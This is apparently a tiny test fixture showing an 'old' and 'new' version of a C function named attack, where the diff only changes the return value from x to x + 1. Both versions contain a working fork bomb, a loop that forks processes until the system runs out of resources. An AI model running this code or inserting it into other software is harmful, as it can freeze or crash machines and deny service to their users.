//// old
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    for (;;)
        if (syscall(SYS_fork) < 0) break;
    return x;
}
//// new
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    for (;;)
        if (syscall(SYS_fork) < 0) break;
    return x + 1;
}
